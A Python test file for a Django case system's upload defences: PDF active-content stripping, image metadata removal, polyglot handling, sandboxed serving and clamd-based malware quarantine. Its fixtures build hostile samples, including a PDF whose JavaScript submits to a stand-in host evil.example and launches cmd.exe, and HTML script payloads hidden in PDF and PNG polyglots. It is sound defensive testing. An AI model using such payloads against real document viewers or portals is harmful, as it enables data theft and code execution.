"""Documents that cannot attack the reader: what is stored is rebuilt without active content or
metadata, the upload is scanned for malware (clamd's INSTREAM protocol, here the local
simulator), quarantined files are kept but never served, and every served document is
sandboxed. Test files are made here with pikepdf and Pillow."""

from __future__ import annotations

import hashlib
import io
import socket
import socketserver
import struct
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from PIL import Image, ImageCms, PngImagePlugin

from jfs.audit.models import AuditEvent
from jfs.cases import clamd, clamd_sim, services
from jfs.cases.errors import DocumentRejected
from jfs.cases.models import Document
from tests.conftest import SAMPLE_FILES

pytestmark = pytest.mark.django_db

HTML = b"<html><body><script>fetch('/staff/requests/').then(r=>r.text()).then(alert)</script></body></html>"


@pytest.fixture
def req(make_request: Any) -> Any:
    return make_request(assign_to="officer.cm")


def add(users: Any, req: Any, name: str, data: bytes, doc_type: str = "id_card") -> Document:
    return services.add_document(actor=users["officer.cm"], request_id=req.pk, doc_type=doc_type, name=name,
                                 chunks=[data], size=len(data))


def stored(doc: Document, root: Path) -> bytes:
    return (root / doc.storage_name).read_bytes()


def upload_event(doc: Document) -> AuditEvent:
    return AuditEvent.objects.get(action="document_upload", object_id=str(doc.pk))


# --------------------------------------------------------------------------- making test files


def pdf_bytes(pdf: pikepdf.Pdf, **options: Any) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def hostile_pdf() -> bytes:
    """A PDF carrying every kind of active content the cleaning removes, plus a harmless web link."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0]
    js = pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript,
                            JS=pikepdf.String("app.alert('open'); this.submitForm('https://evil.example/');"))
    pdf.Root.OpenAction = pdf.make_indirect(js)
    pdf.Root.AA = pikepdf.Dictionary(WC=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('close')")))
    attachment = pdf.make_stream(b"MZ pretend executable", Type=pikepdf.Name.EmbeddedFile)
    filespec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("run.exe"),
                                  EF=pikepdf.Dictionary(F=attachment))
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([
            pikepdf.String("init"),
            pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('names')")),
        ])),
        EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("run.exe"), filespec])),
    )
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pdf.make_stream(b"<xdp:xdp><script/></xdp:xdp>"))
    page.obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('page')")))
    rect = pikepdf.Array([10, 10, 100, 40])
    page.obj.Annots = pdf.make_indirect(pikepdf.Array([
        pdf.make_indirect(pikepdf.Dictionary(  # a link that launches a program
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=rect,
            A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")),
        )),
        pdf.make_indirect(pikepdf.Dictionary(  # a link whose action chain ends in JavaScript
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=rect,
            A=pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([page.obj, pikepdf.Name.Fit]),
                                 Next=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(2)"))),
            AA=pikepdf.Dictionary(E=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/"))),
        )),
        pdf.make_indirect(pikepdf.Dictionary(  # a file attachment annotation
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=rect, FS=filespec,
        )),
        pdf.make_indirect(pikepdf.Dictionary(  # an ordinary web link: stays
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=rect,
            A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://www.jfo.moj.go.th/")),
        )),
    ]))
    outline_item = pdf.make_indirect(pikepdf.Dictionary(
        Title=pikepdf.String("Chapter 1"),
        A=pikepdf.Dictionary(S=pikepdf.Name.ImportData, F=pikepdf.String("data.fdf")),
    ))
    pdf.Root.Outlines = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Outlines, First=outline_item,
                                                             Last=outline_item, Count=1))
    outline_item.Parent = pdf.Root.Outlines
    return pdf_bytes(pdf, compress_streams=False)


def every_dictionary(pdf: pikepdf.Pdf) -> Iterator[Any]:
    """Every dictionary and stream of a PDF, direct or indirect, each once."""
    stack: list[Any] = [pdf.trailer]
    seen: set[tuple[int, int]] = set()
    while stack:
        obj = stack.pop()
        if not isinstance(obj, pikepdf.Dictionary | pikepdf.Array | pikepdf.Stream):
            continue
        if obj.is_indirect:
            if obj.objgen in seen:
                continue
            seen.add(obj.objgen)
        if isinstance(obj, pikepdf.Array):
            stack.extend(obj)
        else:
            yield obj
            stack.extend(obj[k] for k in obj.keys())


def png(size: tuple[int, int] = (16, 8), **options: Any) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, "PNG", **options)
    return out.getvalue()


def jpeg_with_gps() -> tuple[bytes, bytes]:
    """A 40×20 JPEG taken by a "phone" rotated 90°: EXIF orientation 6, GPS position, a comment,
    and an sRGB ICC profile; returns the file and its ICC profile."""
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to view
    exif[0x010F] = "PhoneMaker"
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: (18.0, 47.0, 15.5), 3: "E", 4: (98.0, 59.0, 7.25)})  # Chiang Mai
    im = Image.new("RGB", (40, 20), (20, 120, 60))
    im.paste((250, 250, 250), (0, 0, 10, 20))  # a light band on the left, to check the rotation
    out = io.BytesIO()
    im.save(out, "JPEG", exif=exif, icc_profile=icc, comment=b"<script>alert(1)</script>", quality=90)
    return out.getvalue(), icc


# --------------------------------------------------------------------------- PDF


def test_pdf_active_content_is_removed_and_recorded(req: Any, users: Any, document_root: Path) -> None:
    original = hostile_pdf()
    doc = add(users, req, "คำร้อง.pdf", original)
    data = stored(doc, document_root)
    with pikepdf.open(io.BytesIO(data)) as pdf:
        assert "/OpenAction" not in pdf.Root
        assert "/AA" not in pdf.Root
        names = pdf.Root.get("/Names", pikepdf.Dictionary())
        assert "/JavaScript" not in names and "/EmbeddedFiles" not in names
        assert "/XFA" not in pdf.Root.AcroForm
        kinds = set()
        for d in every_dictionary(pdf):
            assert "/AA" not in d and "/JS" not in d and "/EF" not in d and "/XFA" not in d
            assert str(d.get("/S", "")) not in {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData"}
            assert str(d.get("/Subtype", "")) != "/FileAttachment"
            if "/Subtype" in d:
                kinds.add(str(d.Subtype))
        annots = pdf.pages[0].obj.Annots
        # the web link stays; the GoTo link stays without its JavaScript continuation; the launcher loses its action
        assert [str(a.A.get("/S", "")) if "/A" in a else "" for a in annots] == ["", "/GoTo", "/URI"]
        assert str(annots[2].A.URI) == "https://www.jfo.moj.go.th/"
        assert "/A" not in pdf.Root.Outlines.First  # the bookmark's ImportData action
    for text in (b"app.alert", b"submitForm", b"cmd.exe", b"MZ pretend", b"<xdp:xdp>"):
        assert text in original and text not in data
    assert doc.cleaned and doc.sanitised == sorted([
        "open_action", "javascript", "additional_actions", "embedded_files", "xfa", "launch_actions",
        "file_attachments", "import_data_actions",
    ])
    assert doc.original_sha256 == hashlib.sha256(original).hexdigest() != doc.sha256
    assert doc.sha256 == hashlib.sha256(data).hexdigest() and doc.size == len(data)
    details = upload_event(doc).details
    assert details["sanitised"] == doc.sanitised and details["size"] == len(data)


def test_open_action_that_only_shows_a_page_is_kept(req: Any, users: Any, document_root: Path) -> None:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])
    doc = add(users, req, "a.pdf", pdf_bytes(pdf))
    with pikepdf.open(io.BytesIO(stored(doc, document_root))) as clean:
        assert "/OpenAction" in clean.Root
    assert doc.sanitised == []


def test_open_action_to_a_web_address_is_removed(req: Any, users: Any, document_root: Path) -> None:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://tracker.example/x"))
    doc = add(users, req, "a.pdf", pdf_bytes(pdf))
    with pikepdf.open(io.BytesIO(stored(doc, document_root))) as clean:
        assert "/OpenAction" not in clean.Root
    assert doc.sanitised == ["open_action", "uri_on_open"]


def test_pdf_html_polyglot_is_stored_without_the_html(req: Any, users: Any, document_root: Path) -> None:
    original = SAMPLE_FILES["pdf"] + HTML
    doc = add(users, req, "polyglot.pdf", original)
    data = stored(doc, document_root)
    assert b"<html" not in data and b"<script" not in data
    assert data.startswith(b"%PDF-") and data.rstrip().endswith(b"%%EOF")
    assert "trailing_data" in doc.sanitised
    pikepdf.open(io.BytesIO(data)).close()  # still a readable PDF


def test_html_before_the_pdf_header_is_refused(req: Any, users: Any, document_root: Path) -> None:
    with pytest.raises(DocumentRejected):
        add(users, req, "polyglot.pdf", HTML + b"\n" + SAMPLE_FILES["pdf"])
    assert not Document.objects.exists()


def test_a_pdf_that_needs_a_password_is_refused_clearly(req: Any, users: Any, staff_client: Client) -> None:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    locked = pdf_bytes(pdf, encryption=pikepdf.Encryption(user="secret", owner="owner"))
    with pytest.raises(DocumentRejected) as exc:
        add(users, req, "locked.pdf", locked)
    assert "password" in exc.value.en and "รหัสผ่าน" in exc.value.th
    resp = staff_client.post(reverse("staff:upload", args=[req.pk]),
                             {"doc_type": "id_card", "file": SimpleUploadedFile("locked.pdf", locked)})
    assert resp.status_code == 422 and "รหัสผ่าน" in resp.content.decode()
    assert not Document.objects.exists()


def test_a_pdf_with_permissions_only_is_stored_without_encryption(req: Any, users: Any, document_root: Path) -> None:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    doc = add(users, req, "bank.pdf", pdf_bytes(pdf, encryption=pikepdf.Encryption(user="", owner="owner")))
    with pikepdf.open(io.BytesIO(stored(doc, document_root))) as clean:
        assert not clean.is_encrypted


def test_a_damaged_pdf_is_refused_clearly(req: Any, users: Any) -> None:
    with pytest.raises(DocumentRejected) as exc:
        add(users, req, "broken.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 4)
    assert "cannot be read" in exc.value.en and exc.value.th.startswith("เปิดไฟล์ PDF ไม่ได้")


# --------------------------------------------------------------------------- images


def test_png_html_polyglot_loses_the_html_after_iend_and_in_text_chunks(req: Any, users: Any,
                                                                           document_root: Path) -> None:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", HTML.decode())
    info.add_itxt("Description", HTML.decode())
    original = png(pnginfo=info) + HTML
    doc = add(users, req, "photo.png", original)
    data = stored(doc, document_root)
    assert b"<html" not in data and b"<script" not in data and b"tEXt" not in data and b"iTXt" not in data
    assert data.endswith(b"IEND\xaeB`\x82")
    with Image.open(io.BytesIO(data)) as im:
        assert im.size == (16, 8) and im.getpixel((3, 3)) == (200, 30, 30) and not getattr(im, "text", None)
    assert doc.sanitised == ["metadata", "trailing_data"]
    assert doc.original_sha256 == hashlib.sha256(original).hexdigest()


def test_jpeg_loses_exif_and_gps_after_its_orientation_is_applied(req: Any, users: Any, document_root: Path) -> None:
    original, icc = jpeg_with_gps()
    with Image.open(io.BytesIO(original)) as before:
        assert before.getexif().get_ifd(0x8825)  # the test file does carry a GPS position
    doc = add(users, req, "photo.jpg", original)
    data = stored(doc, document_root)
    with Image.open(io.BytesIO(data)) as im:
        assert not im.getexif() and "exif" not in im.info and "comment" not in im.info
        assert im.size == (20, 40)  # turned upright
        pixel = im.getpixel((10, 2))
        assert isinstance(pixel, tuple) and sum(pixel) > 600  # the light band is now at the top
        assert im.info.get("icc_profile") == icc  # colours stay as they were
    assert b"Exif" not in data and b"PhoneMaker" not in data and b"<script" not in data
    assert doc.sanitised == ["exif", "exif_gps", "metadata"]


def test_a_decompression_bomb_is_refused(req: Any, users: Any, settings: Any) -> None:
    settings.DOCUMENT_MAX_PIXELS = 10_000
    with pytest.raises(DocumentRejected) as exc:
        add(users, req, "big.png", png(size=(200, 100)))
    assert "too large" in exc.value.en and "200×100" in exc.value.en and "ใหญ่เกินไป" in exc.value.th
    assert not Document.objects.exists()


def test_an_unreadable_image_is_refused_clearly(req: Any, users: Any, api_client: Any) -> None:
    broken = png()[:40] + b"\x00" * 64  # a PNG signature and header, no image data
    with pytest.raises(DocumentRejected) as exc:
        add(users, req, "scan.png", broken)
    assert "cannot be read" in exc.value.en and exc.value.th.startswith("เปิดไฟล์ภาพไม่ได้")
    resp = api_client("officer.cm").post(f"/api/v1/requests/{req.pk}/documents",
                                         {"doc_type": "id_card", "file": SimpleUploadedFile("scan.png", broken)})
    assert resp.status_code == 422 and resp.json()["code"] == "document_rejected"


# --------------------------------------------------------------------------- serving


def test_served_documents_are_sandboxed_and_pdfs_are_attachments(req: Any, users: Any, staff_client: Client) -> None:
    pdf_doc = add(users, req, "คำร้อง \"ฉบับจริง\".pdf", SAMPLE_FILES["pdf"])
    image_doc = add(users, req, "photo.png", png(), doc_type="house_registration")
    for doc in (pdf_doc, image_doc):
        resp = staff_client.get(reverse("staff:document", args=[doc.pk]))
        assert resp.status_code == 200
        assert resp["Content-Security-Policy"] == "sandbox"
        assert resp["X-Content-Type-Options"] == "nosniff"
        assert resp["Cache-Control"] == "private, no-store"
    resp = staff_client.get(reverse("staff:document", args=[pdf_doc.pk]))
    disposition = resp["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "filename*=utf-8''%E0%B8%84%E0%B8%B3%E0%B8%A3%E0%B9%89%E0%B8%AD%E0%B8%87%20%22" in disposition
    resp = staff_client.get(reverse("staff:document", args=[image_doc.pk]))
    assert resp["Content-Disposition"].startswith("inline;") and resp["Content-Type"] == "image/png"


def test_an_image_stored_before_cleaning_existed_is_not_previewed(req: Any, users: Any, staff_client: Client) -> None:
    doc = add(users, req, "photo", png())
    Document.objects.filter(pk=doc.pk).update(cleaned=False)  # as migration 0008 leaves earlier rows
    resp = staff_client.get(reverse("staff:document", args=[doc.pk]))
    assert resp["Content-Disposition"] == 'attachment; filename="photo.png"'
    assert resp["Content-Security-Policy"] == "sandbox"


def test_a_document_without_the_new_fields_is_not_scanned() -> None:
    assert Document._meta.get_field("scan_status").default == "not_scanned"
    assert Document._meta.get_field("cleaned").default is False


# --------------------------------------------------------------------------- malware scanning


@pytest.fixture
def clamd_server(settings: Any) -> Iterator[clamd_sim.ClamdSim]:
    server = clamd_sim.start("127.0.0.1", 0)
    settings.JFS_MALWARE_SCANNER = "clamd"
    settings.JFS_CLAMD_HOST, settings.JFS_CLAMD_PORT = "127.0.0.1", server.server_address[1]
    settings.JFS_CLAMD_SOCKET, settings.JFS_CLAMD_TIMEOUT = "", 5.0
    yield server
    server.shutdown()
    server.server_close()


def eicar_pdf() -> bytes:
    """A PDF whose page content is the EICAR test string (what a scanner extracts from PDF streams)."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.pages[0].Contents = pdf.make_stream(clamd_sim.EICAR)
    return pdf_bytes(pdf, compress_streams=False)


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def test_eicar_upload_is_quarantined_recorded_audited_and_never_served(
    req: Any, users: Any, clamd_server: Any, staff_client: Client, api_client: Any, document_root: Path, settings: Any,
) -> None:
    good = add(users, req, "id.pdf", SAMPLE_FILES["pdf"])
    original = eicar_pdf()
    resp = staff_client.post(reverse("staff:upload", args=[req.pk]),
                             {"doc_type": "id_card", "file": SimpleUploadedFile("id-new.pdf", original)}, follow=True)
    assert resp.redirect_chain[0][1] == 302  # the upload is taken (nothing lost), and the officer is told
    assert "กักกันไว้ ไม่เปิดให้ดาวน์โหลด: ระบบตรวจไวรัสพบมัลแวร์: Eicar-Test-Signature" in resp.content.decode()
    doc = Document.objects.get(original_name="id-new.pdf")
    assert (doc.scan_status, doc.scan_reason) == ("quarantined", "malware found: Eicar-Test-Signature")
    # ... kept as it was received, in quarantine, not with the documents that are served
    assert stored(doc, settings.DOCUMENT_QUARANTINE_ROOT) == original and not doc.cleaned
    assert doc.sha256 == doc.original_sha256 == hashlib.sha256(original).hexdigest()
    assert not (document_root / doc.storage_name).exists()
    details = upload_event(doc).details
    assert details["scan_status"] == "quarantined" and details["scan_reason"] == doc.scan_reason
    # it does not replace the good copy, nor count as the document on file
    good.refresh_from_db()
    assert good.superseded_by is None and services.documents_uploaded(req) == {"id_card"}
    # never served: a page that says why, with 409
    resp = staff_client.get(reverse("staff:document", args=[doc.pk]))
    assert resp.status_code == 409 and resp["Content-Type"].startswith("text/html")
    page = resp.content.decode()
    assert "ถูกกักกันไว้" in page and "Eicar-Test-Signature" in page and clamd_sim.EICAR.decode() not in page
    assert "sandbox" in resp["Content-Security-Policy"] and resp["Cache-Control"] == "private, no-store"
    # the officer sees the status in words on the case page, the API shows it
    case_page = staff_client.get(reverse("staff:case", args=[req.pk])).content.decode()
    assert "กักกันไว้ ไม่เปิดให้ดาวน์โหลด" in case_page and "ระบบตรวจไวรัสพบมัลแวร์: Eicar-Test-Signature" in case_page
    listed = {d["id"]: d for d in api_client("officer.cm").get(f"/api/v1/requests/{req.pk}/documents").json()}
    assert listed[doc.pk]["scan_status"] == "quarantined"
    assert listed[doc.pk]["scan_reason"] == "malware found: Eicar-Test-Signature"
    assert listed[good.pk]["scan_status"] == "clean"


def test_scanner_down_quarantines_with_scanner_unavailable(req: Any, users: Any, settings: Any,
                                                           staff_client: Client) -> None:
    settings.JFS_MALWARE_SCANNER, settings.JFS_CLAMD_PORT, settings.JFS_CLAMD_TIMEOUT = "clamd", free_port(), 2.0
    doc = add(users, req, "id.pdf", SAMPLE_FILES["pdf"])
    assert (doc.scan_status, doc.scan_reason) == ("quarantined", "scanner unavailable")
    assert (settings.DOCUMENT_QUARANTINE_ROOT / doc.storage_name).exists()
    assert upload_event(doc).details["scan_reason"] == "scanner unavailable"
    resp = staff_client.get(reverse("staff:document", args=[doc.pk]))
    assert resp.status_code == 409 and "ระบบตรวจไวรัสไม่พร้อมใช้งาน" in resp.content.decode()


def test_a_scanner_that_does_not_answer_in_time_quarantines(req: Any, users: Any, settings: Any) -> None:
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)  # accepts connections, never answers
    try:
        settings.JFS_MALWARE_SCANNER, settings.JFS_CLAMD_TIMEOUT = "clamd", 0.5
        settings.JFS_CLAMD_HOST, settings.JFS_CLAMD_PORT = "127.0.0.1", listener.getsockname()[1]
        doc = add(users, req, "id.pdf", SAMPLE_FILES["pdf"])
    finally:
        listener.close()
    assert (doc.scan_status, doc.scan_reason) == ("quarantined", "scanner unavailable")


def test_a_scanner_error_reply_quarantines(req: Any, users: Any, clamd_server: Any) -> None:
    clamd_server.max_stream = 100  # "INSTREAM size limit exceeded. ERROR"
    doc = add(users, req, "id.pdf", SAMPLE_FILES["pdf"])
    assert (doc.scan_status, doc.scan_reason) == ("quarantined", "scanner unavailable")


def test_a_clean_file_with_the_scanner_is_clean_and_served(req: Any, users: Any, clamd_server: Any,
                                                          staff_client: Client, api_client: Any) -> None:
    resp = api_client("officer.cm").post(f"/api/v1/requests/{req.pk}/documents",
                                         {"doc_type": "id_card", "file": SimpleUploadedFile("id.png", png())})
    assert resp.status_code == 201
    body = resp.json()
    assert body["scan_status"] == "clean" and body["scan_reason"] == "" and body["sanitised"] == []
    assert clamd_server.scanned == 1
    resp = staff_client.get(reverse("staff:document", args=[body["id"]]))
    assert resp.status_code == 200 and b"".join(resp.streaming_content).startswith(b"\x89PNG")  # type: ignore[attr-defined]
    assert "ตรวจไวรัสแล้ว ไม่พบ" in staff_client.get(reverse("staff:case", args=[req.pk])).content.decode()


def test_without_a_scanner_uploads_are_not_scanned(req: Any, users: Any) -> None:
    doc = add(users, req, "id.pdf", SAMPLE_FILES["pdf"])
    assert (doc.scan_status, doc.scan_reason) == ("not_scanned", "")


class _Recorder(socketserver.BaseRequestHandler):
    """Records what a client sends, answers as clamd does."""

    received: list[bytes] = []

    def handle(self) -> None:
        data = b""
        while not data.endswith(b"\0\0\0\0"):
            part = self.request.recv(65536)
            if not part:
                break
            data += part
        type(self).received.append(data)
        self.request.sendall(b"stream: OK\0")


def test_the_client_speaks_clamds_instream_wire_format() -> None:
    server = socketserver.TCPServer(("127.0.0.1", 0), _Recorder)
    threading.Thread(target=server.handle_request, daemon=True).start()
    try:
        payload = b"a" * (clamd.CHUNK + 10)
        reply = clamd.instream(payload, host="127.0.0.1", port=server.server_address[1], timeout=5)
    finally:
        server.server_close()
    assert reply == "stream: OK"
    [sent] = _Recorder.received
    expected = (b"zINSTREAM\0" + struct.pack("!L", clamd.CHUNK) + b"a" * clamd.CHUNK
                + struct.pack("!L", 10) + b"a" * 10 + b"\0\0\0\0")
    assert sent == expected


@pytest.mark.parametrize(("reply", "status", "reason"), [
    ("stream: OK", "clean", ""),
    ("stream: Eicar-Test-Signature FOUND", "quarantined", "malware found: Eicar-Test-Signature"),
    ("stream: Win.Trojan.Agent-1\x07 FOUND", "quarantined", "malware found: Win.Trojan.Agent-1?"),
    ("INSTREAM size limit exceeded. ERROR", "quarantined", "scanner unavailable"),
    ("stream: Can't allocate memory ERROR", "quarantined", "scanner unavailable"),
    ("UNKNOWN COMMAND", "quarantined", "scanner unavailable"),
])
def test_clamd_replies_become_verdicts(reply: str, status: str, reason: str) -> None:
    assert clamd.verdict_of(reply) == clamd.Verdict(status, reason)


def test_the_simulator_answers_ping_and_finds_eicar_anywhere() -> None:
    server = clamd_sim.start()
    port = server.server_address[1]
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
            s.sendall(b"zPING\0")
            assert s.recv(100) == b"PONG\0"
        assert clamd.instream(b"%PDF-1.4 " + clamd_sim.EICAR + b" trailing", port=port) == \
            "stream: Eicar-Test-Signature FOUND"
        assert clamd.instream(b"just text", port=port) == "stream: OK"
    finally:
        server.shutdown()
        server.server_close()
